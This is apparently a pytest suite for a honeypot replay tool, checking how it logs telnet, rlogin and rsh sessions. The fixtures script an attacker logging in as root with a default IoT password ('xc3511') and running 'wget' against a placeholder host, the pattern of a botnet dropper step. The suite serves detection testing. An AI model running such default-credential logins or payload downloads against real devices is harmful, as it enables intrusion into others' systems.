# SPDX-License-Identifier: Apache-2.0
"""Telnet, rlogin and rsh, as `fishbowl replay` records them: lines, commands, logins."""
import json
import os
import struct

import pytest

import packets as p
from fishbowl import PCAPS, ROOT, run

RULES = os.path.join(ROOT, 'data', 'rules', 'outbound.rules')
ATTACKER, HONEYPOT = '198.51.100.7', '192.0.2.10'
RSH = os.path.join(PCAPS, 'rsh.pcap')

TELNET = [
    (1, b'\xff\xfd\x01\xff\xfb\x03'), (0, b'\xff\xfb\x01\xff\xfd\x03'), (1, b'\r\nbox login: '), (0, b'root\r\0'),
    (1, b'root\r\nPassword: '), (0, b'wrong\r\0'), (1, b'\r\nLogin incorrect\r\nbox login: '), (0, b'root\r\0'),
    (1, b'root\r\nPassword: '), (0, b'xc3511\r\0'), (1, b'\r\n~ # '), (0, b'wget http://x/y\x7fz\r\0'),
    (1, b'wget http://x/z\r\nno route\r\n~ # '), (0, b'exit\r\0'),
]
RLOGIN = [
    (0, b'\0'), (0, b'eve\0root\0xterm/38400\0'), (1, b'\0'), (1, b'# '), (0, b'id\r'), (1, b'id\r\nuid=0\r\n# '),
]


def talk(steps, cport, sport, ends=(ATTACKER, HONEYPOT)):
    """A whole TCP connection of what its two sides say in turn."""
    ends = [(*ends, cport, sport), (*reversed(ends), sport, cport)]
    seq = [1000, 5000]
    out = []

    def say(side, flags, data=b'', size=None):
        out.append(p.tcp(*ends[side], flags, seq=seq[side], ack=seq[not side], data=data))
        seq[side] += len(data) if size is None else size

    say(0, p.SYN, size=1)
    say(1, p.SYN | p.ACK, size=1)
    say(0, p.ACK)
    for side, data in steps:
        say(side, p.PSH | p.ACK, data)
        say(not side, p.ACK)
    say(0, p.FIN | p.ACK, size=1)
    say(1, p.FIN | p.ACK, size=1)
    say(0, p.ACK)
    return out


def replay(tmp_path, packets):
    capture = tmp_path / 'capture.pcap'
    capture.write_bytes(p.pcap('raw', [(10**18 + n * 10**7, packet) for n, packet in enumerate(packets)]))
    done = run('--rules', RULES, '-o', tmp_path / 'out', capture)
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in (tmp_path / 'out' / 'eve.json').read_text().splitlines()]


def of(records, kind):
    return [r[kind] for r in records if r['event_type'] == kind]


def test_telnet(tmp_path):
    records = replay(tmp_path, talk(TELNET, 40000, 2323))
    assert of(records, 'login') == [
        {'user': 'root', 'password': 'wrong', 'result': 'failure'},
        {'user': 'root', 'password': 'xc3511', 'result': 'success'},
    ]
    assert of(records, 'telnet') == [
        {'command': 'wget http://x/z', 'output': 'no route\r\n~ #'},
        {'command': 'exit', 'output': ''},
    ]
    assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'telnet'}


def test_rlogin(tmp_path):
    records = replay(tmp_path, talk(RLOGIN, 1022, 5130))
    assert of(records, 'login') == [{'method': 'rhosts', 'user': 'root', 'result': 'success'}]
    assert of(records, 'rlogin') == [{'command': 'id', 'output': 'uid=0\r\n#'}]


def moved(data):
    """The packets of a capture of one host that talks to itself, as of two."""
    at = 24
    while at < len(data):
        size, = struct.unpack_from('<I', data, at + 8)
        segment = data[at + 16 + 14 + 20:at + 16 + size]
        to_server = segment[2:4] == struct.pack('>H', 514)
        ends = (ATTACKER, HONEYPOT) if to_server else (HONEYPOT, ATTACKER)
        yield p.ip(*ends, 6, p.summed(*ends, 6, segment[:16] + b'\0\0' + segment[18:], 16))
        at += 16 + size


@pytest.mark.skipif(not os.path.exists(RSH), reason='no captures: ' + PCAPS + ' is absent')
def test_rsh(tmp_path):
    with open(RSH, 'rb') as f:
        records = replay(tmp_path, moved(f.read()))
    assert of(records, 'rsh') == [
        {'client_user': 'lns', 'server_user': 'root', 'command': 'mkdir testdir', 'answer': 'Password incorrect.\n'},
        {'client_user': 'lns', 'server_user': 'someuser', 'command': 'some random command',
         'answer': 'Login incorrect.\n'},
    ]
    assert of(records, 'login') == [
        {'method': 'rhosts', 'user': 'root', 'result': 'failure'},
        {'method': 'rhosts', 'user': 'someuser', 'result': 'failure'},
    ]
